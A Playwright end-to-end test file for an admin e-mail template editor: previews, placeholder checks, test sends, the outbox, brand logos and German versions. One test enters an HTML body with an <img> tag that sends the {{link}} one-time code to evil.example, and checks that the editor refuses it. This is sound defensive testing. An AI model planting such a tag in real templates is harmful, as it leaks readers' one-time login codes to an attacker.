import { expect, expectAccessible, signInAs, test, waitForMail } from './support/fixtures'
import { tinyPng } from './support/png'

test('an admin edits a brand’s colleague invitation, previews it live, sends a test and finds it in the outbox', async ({
  page,
}) => {
  const stamp = `${Date.now()}`
  await signInAs(page, 'admin@panorama.test')
  await expect(page).toHaveURL(/\/admin$/)

  await page.goto('/admin/email-management')
  await expect(page.getByRole('heading', { level: 1, name: 'E-mail' })).toBeVisible()
  await expectAccessible(page)

  // Brands are a filter: choose the demo brand and its colleague invitation.
  await page.getByLabel('Brand', { exact: true }).selectOption({ label: 'Northwind Consulting' })
  await page.getByRole('button', { name: 'Show' }).click()
  await expect(page).toHaveURL(/brand=[0-9a-f-]{36}/)
  const row = page.getByRole('row', { name: /Colleague invitation/ })
  await expect(row.getByText('Uses the default')).toBeVisible()
  await row.getByRole('link', { name: /uses the default, open/ }).click()
  await expect(page).toHaveURL(/\/admin\/email-management\/colleague_invite\.[0-9a-f-]{36}$/)
  const editorUrl = page.url()
  // The insert buttons replace the plain list once the page is hydrated (the preview's frame keeps
  // the network from ever looking idle, so waitForHydration does not fit here).
  await expect(page.getByRole('button', { name: /Insert \{\{link\}\}/ })).toBeVisible()
  await expectAccessible(page)

  // The live preview follows the subject as it is typed, with sample values filled in.
  const subject = page.getByLabel('Subject', { exact: true })
  await subject.fill(`{{employeeName}} asks for your view ${stamp}`)
  await expect(page.getByTestId('preview-subject')).toHaveText(`Sam Example asks for your view ${stamp}`)

  // A misspelt placeholder is a field error, with what was meant.
  const body = page.getByLabel('Text body')
  await body.fill(
    `Hello {{colleagueNam}},\n\nPlease give your view of {{employeeName}}:\n\n{{link}}\n\nThanks`,
  )
  await page.getByRole('button', { name: /Save as Northwind Consulting’s own/ }).click()
  await expect(
    page.getByText('{{colleagueNam}} is not a placeholder of this e-mail. Did you mean {{colleagueName}}?'),
  ).toBeVisible()

  // Fixed by inserting the placeholder at the cursor.
  await body.fill(
    `Hello ,\n\nPlease give your view of {{employeeName}} by {{dueDate}}:\n\n{{link}}\n\nThanks ${stamp}`,
  )
  await body.evaluate((el: HTMLTextAreaElement) => el.setSelectionRange(6, 6))
  await page.getByRole('button', { name: /Insert \{\{colleagueName\}\}/ }).click()
  await expect(body).toHaveValue(/^Hello \{\{colleagueName\}\},/)
  await expect(page.getByText(/is not a placeholder/)).toHaveCount(0)
  await expect(page.getByTestId('preview-text')).toContainText('Hello Alex Sample,')
  await expect(page.getByTestId('preview-text')).toContainText(`Thanks ${stamp}`)
  const frame = page.frameLocator('iframe[title="HTML part of the preview"]')
  await expect(frame.getByText('Please give your view of Sam Example by 30 June 2026:')).toBeVisible()

  await page.getByRole('button', { name: /Save as Northwind Consulting’s own/ }).click()
  await expect(page.getByRole('status').filter({ hasText: 'Own wording created' })).toBeVisible()
  await expect(subject).toHaveValue(`{{employeeName}} asks for your view ${stamp}`)

  // A test goes through the outbox to the signed-in admin.
  await page.getByRole('button', { name: 'Send a test to me' }).click()
  await expect(page.getByRole('status').filter({ hasText: 'Test queued' })).toBeVisible()
  const mail = await waitForMail((m) => m.to.includes('admin@panorama.test') && m.subject.includes(stamp))
  expect(mail.subject).toBe(`Sam Example asks for your view ${stamp}`)
  expect(mail.text).toContain('Please give your view of Sam Example by 30 June 2026:')
  expect(mail.html).toContain('Northwind Consulting')

  // The outbox shows it, sent, with its brand.
  await page.goto('/admin/email-management?tab=outbox')
  await page.getByLabel('Recipient', { exact: true }).fill('admin@panorama.test')
  await page.getByLabel('Template', { exact: true }).selectOption({ label: 'Colleague invitation' })
  await page.getByRole('button', { name: 'Show' }).click()
  const message = page.getByRole('row', { name: /admin@panorama\.test/ }).first()
  await expect(message).toContainText('Northwind Consulting')
  await expect(message).toContainText('Sent')
  await expectAccessible(page)
  await message.getByRole('link', { name: 'admin@panorama.test' }).click()
  await expect(page).toHaveURL(/\/admin\/email-management\/outbox\/[0-9a-f-]{36}$/)
  await expect(
    page.getByRole('heading', { level: 1, name: `Sam Example asks for your view ${stamp}` }),
  ).toBeVisible()
  await expectAccessible(page)

  // The dashboard's link to failed messages opens the outbox filtered by state.
  await page.goto('/admin/email-management?tab=outbox&state=failed')
  await expect(page.locator('a[aria-current="page"]', { hasText: 'Failed' })).toBeVisible()
  await expect(page.getByLabel('State', { exact: true })).toHaveValue('failed')

  // Restoring the default deletes the brand's own wording, after a confirmation.
  await page.goto(editorUrl)
  await page.getByRole('link', { name: 'Restore the default…' }).click()
  await expect(
    page.getByRole('heading', { name: 'Delete Northwind Consulting’s own wording?' }),
  ).toBeFocused()
  await expectAccessible(page)
  await page.getByRole('button', { name: 'Yes, use the default' }).click()
  await expect(page.getByRole('status').filter({ hasText: 'Default restored' })).toBeVisible()
  await expect(page.getByText('uses the default', { exact: false }).first()).toBeVisible()
  await expect(page.getByLabel('Subject', { exact: true })).toHaveValue(
    '{{employeeName}} would value your feedback',
  )
})

test('the brand logo shows inside the sandboxed HTML previews: the editor’s and the outbox message’s', async ({
  page,
}) => {
  const name = `Logo Mail ${Date.now()}`
  await signInAs(page, 'admin@panorama.test')
  await expect(page).toHaveURL(/\/admin$/)
  await page.goto('/admin/brand-management')
  await page.getByLabel('Brand name').fill(name)
  await page.getByRole('button', { name: /create brand/i }).click()
  await expect(page).toHaveURL(/\/admin\/brand-management\/[0-9a-f-]{36}$/)
  const brandId = page.url().split('/').pop()!
  await page
    .getByLabel('Upload a logo')
    .setInputFiles({ name: 'logo.png', mimeType: 'image/png', buffer: tinyPng() })
  await page.getByRole('button', { name: 'Save brand' }).click()
  await expect(page.getByRole('status').filter({ hasText: 'Brand saved' })).toBeVisible()

  // The editor's live preview (srcdoc, sandbox without scripts) shows the logo.
  await page.goto(`/admin/email-management/response_ready.${brandId}`)
  await expect(page.getByRole('button', { name: /Insert \{\{link\}\}/ })).toBeVisible()
  const preview = page.frameLocator('iframe[title="HTML part of the preview"]').getByRole('img', { name })
  await expect(preview).toBeVisible()
  await expect
    .poll(() => preview.evaluate((img: HTMLImageElement) => img.complete && img.naturalWidth))
    .toBeGreaterThan(0)

  // A test message goes out with the logo; the outbox message's frame shows it too.
  await page.getByRole('button', { name: 'Send a test to me' }).click()
  await expect(page.getByRole('status').filter({ hasText: 'Test queued' })).toBeVisible()
  await page.goto(`/admin/email-management?tab=outbox&to=admin%40panorama.test&template=response_ready`)
  await page
    .getByRole('row', { name: new RegExp(name) })
    .first()
    .getByRole('link', { name: 'admin@panorama.test' })
    .click()
  await expect(page).toHaveURL(/\/admin\/email-management\/outbox\/[0-9a-f-]{36}$/)
  const logo = page.frameLocator('iframe[title="HTML part of the message"]').getByRole('img', { name })
  await expect(logo).toBeVisible()
  await expect
    .poll(() => logo.evaluate((img: HTMLImageElement) => img.complete && img.naturalWidth))
    .toBeGreaterThan(0)
})

test('the image trick with a one-time code is refused beside the HTML body, and nothing is saved', async ({
  page,
}) => {
  await signInAs(page, 'admin@panorama.test')
  await expect(page).toHaveURL(/\/admin$/)
  await page.goto('/admin/email-management/admin_invite')
  await expect(page.getByRole('button', { name: /Insert \{\{link\}\}/ })).toBeVisible()
  const html = page.getByLabel('HTML body (optional)')
  await html.fill(
    '<p>Welcome</p><p><a href="{{link}}">Set your password</a></p><img src="https://evil.example/p.gif?x={{link}}">',
  )
  await page.getByRole('button', { name: 'Save', exact: true }).click()
  const message = page.getByText(
    '{{link}} carries the reader’s one-time code, so it may stand only as a link’s whole address (<a href="{{link}}">) or as text. Take it out of <img src>.',
  )
  await expect(message).toBeVisible()
  // Beside the field: the HTML body is described by its error.
  await expect(html).toHaveAccessibleDescription(/Take it out of <img src>\./)
  await expectAccessible(page)
  await page.reload()
  await expect(page.getByLabel('HTML body (optional)')).toHaveValue('')
})

test('an admin adds a German version of a brand’s e-mail, edits and previews it in German, and the list shows it', async ({
  page,
}) => {
  // German is offered: the suite's server previews it (e2e/support/global-setup.ts, ADR 050).
  const stamp = `${Date.now()}`
  await signInAs(page, 'admin@panorama.test')
  await page.goto('/admin/email-management')
  // The seed installed the default's German version.
  await expect(page.getByRole('link', { name: 'Report ready, default, German version' })).toBeVisible()
  await page.getByLabel('Brand', { exact: true }).selectOption({ label: 'Northwind Consulting' })
  await page.getByRole('button', { name: 'Show' }).click()
  await page
    .getByRole('row', { name: /Report ready/ })
    .getByRole('link', { name: /uses the default, open/ })
    .click()
  await expect(page).toHaveURL(/\/admin\/email-management\/response_ready\.[0-9a-f-]{36}$/)
  const editorUrl = page.url()
  await page.getByLabel('Add a version in').selectOption({ label: 'German' })
  await page.getByRole('button', { name: 'Add version' }).click()
  await expect(page).toHaveURL(`${editorUrl}?language=de`)
  await expect(page.getByRole('heading', { name: 'Wording · German' })).toBeVisible()
  // Starts from the default's German version; the preview follows in German.
  const subject = page.getByLabel('Subject', { exact: true })
  await expect(subject).toHaveValue('Ihr 360°-Feedback-Bericht ist fertig')
  await expect(page.getByRole('button', { name: /Insert \{\{link\}\}/ })).toBeVisible()
  await subject.fill(`Ihr Bericht ist da ${stamp}`)
  await expect(page.getByTestId('preview-subject')).toHaveText(`Ihr Bericht ist da ${stamp}`)
  await page.getByRole('button', { name: 'Save', exact: true }).click()
  await expect(page.getByText('“Report ready” is used for the next message sent.')).toBeVisible()
  await expect(page.getByLabel('Subject', { exact: true })).toHaveValue(`Ihr Bericht ist da ${stamp}`)
  await expectAccessible(page)

  // The list links the brand's German version.
  await page.goto('/admin/email-management')
  await page.getByLabel('Brand', { exact: true }).selectOption({ label: 'Northwind Consulting' })
  await page.getByRole('button', { name: 'Show' }).click()
  await page.getByRole('link', { name: 'Report ready for Northwind Consulting, German version' }).click()

  // Deleting it asks first; then it is gone.
  await page.getByRole('link', { name: /Delete the German version/ }).click()
  await page.getByRole('button', { name: 'Yes, delete the German version' }).click()
  await expect(page).toHaveURL(editorUrl)
  await expect(page.getByRole('link', { name: /Delete the/ })).toHaveCount(0)
})
